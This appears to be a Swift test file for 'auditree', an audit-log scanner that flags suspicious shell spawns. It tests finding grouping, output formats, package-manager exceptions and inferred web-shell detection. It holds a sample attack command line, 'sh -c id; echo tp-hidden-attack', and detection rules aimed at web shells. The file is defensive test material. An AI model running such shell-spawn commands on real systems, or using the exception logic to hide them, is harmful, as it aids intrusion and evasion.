        #expect(
            text.text.contains(
                "  finding  #1\n  repeated 3 times (same rule, spawner and command line): first #1 below; last #3  2023-11-14T22:13:24.000Z  event 1700000004.000:104  pid 13  at \(path):10\n"
            ))
        #expect(text.text.contains("auditree: 2 findings (2 critical), 2 repeats grouped;"))
        let ungrouped = try CLI.run(["scan", "--no-group", path])
        #expect(ungrouped.text.contains("auditree: 4 findings (4 critical);") && !ungrouped.text.contains("repeated"))
        let json = try CLI.run(["scan", "--format", "json", path])
        #expect(
            json.text.contains("\"occurrences\": 3,\n      \"last\": {\n        \"time\": \"2023-11-14T22:13:24.000Z\"")
        )
        #expect(
            json.text.contains(
                "\"seen\": [\n        {\"number\": 1, \"event\": \"1700000002.000:102\", \"time\": \"2023-11-14T22:13:22.000Z\", \"pid\": 11, \"spawner_pid\": 10, \"file\": \"\(path)\", \"line\": 4},\n        {\"number\": 2,"
            ))
    }
}

@Suite("Rule engine on recorded workloads")
struct RecordedWorkloadTests {
    /// Each expectation of a recording: findings once with the right rule, shell and (certain or inferred) spawner; look-alikes never.
    func check(_ name: String, _ report: ScanReport) throws {
        let expectations = try Expectation.load(name)
        for expectation in expectations {
            let hits = report.findings.filter { argvContains($0.process.image, expectation.marker) }
            if expectation.isFinding {
                try #require(hits.count == 1, "\(name): \(expectation.marker) flagged \(hits.count) times")
                #expect(hits[0].rule.id == expectation.rule, "\(expectation.marker)")
                #expect(hits[0].process.image?.exe == LogString(expectation.shellExe), "\(expectation.marker)")
                if expectation.isInferred {
                    #expect(hits[0].spawner.image == nil && hits[0].inference != nil, "\(expectation.marker)")
                } else {
                    #expect(
                        hits[0].spawner.image?.exe == LogString(expectation.spawnerExe) && hits[0].inference == nil,
                        "\(expectation.marker)")
                }
            } else {
                #expect(
                    hits.isEmpty && !report.findings.contains { argvContains($0.spawner.image, expectation.marker) },
                    "\(expectation.marker)")
            }
        }
        #expect(report.findings.count == expectations.filter(\.isFinding).count)
    }

    @Test(
        "benign-busy: the default pack reports only the hidden attack; the package-manager exceptions are counted, not silent"
    )
    func benignBusy() throws {
        let report = try Fixtures.scan([Fixtures.recorded("benign-busy")])
        try check("benign-busy", report)
        let attack = try #require(report.findings.first)
        #expect(attack.rule.id == "interpreter_shell_spawn" && commandLine(attack) == "sh -c id; echo tp-hidden-attack")
        #expect(report.summary.suppressed == 49 && report.summary.suppressedByException == ["package_managers": 49])
        // Without the pack's exceptions (switched off by a user file), the benign interpreter->shell pairs are findings.
        let off = try ruleFile(
            "exceptions-off",
            """
            version: 1
            exceptions:
              - {id: package_managers, enabled: false}
              - {id: debconf, enabled: false}
              - {id: config_management, enabled: false}
            """)
        let noisy = try Scanner.run(
            ScanConfiguration(inputs: [Fixtures.recorded("benign-busy")]).with { $0.ruleFiles = [off] })
        #expect(noisy.findings.count == 36 && noisy.summary.suppressed == 0)
        // The debconf exception alone covers what is left when package managers are not excepted.
        let onlyDebconf = try ruleFile(
            "only-debconf", "version: 1\nexceptions:\n  - {id: package_managers, enabled: false}\n")
        let debconf = try Scanner.run(
            ScanConfiguration(inputs: [Fixtures.recorded("benign-busy")]).with { $0.ruleFiles = [onlyDebconf] })
        #expect(debconf.summary.suppressedByException["debconf", default: 0] > 0)
    }

    @Test(
        "webshell-execve: workers never exec, so each web shell is an inferred illegitimate_shell, never a certain parent"
    )
    func webshellExecve() throws {
        let report = try Fixtures.scan([Fixtures.recorded("webshell-execve")])
        try check("webshell-execve", report)
        #expect(report.summary.shellsWithUnknownParent == 3)
        for finding in report.findings {
            #expect(finding.inference?.confidence == .medium)
            #expect(finding.inference?.evidence.map(\.id) == ["web_user", "web_audit_key"])
            #expect(finding.spawnerEvidence == nil && finding.spawner.image == nil)
        }
    }
}
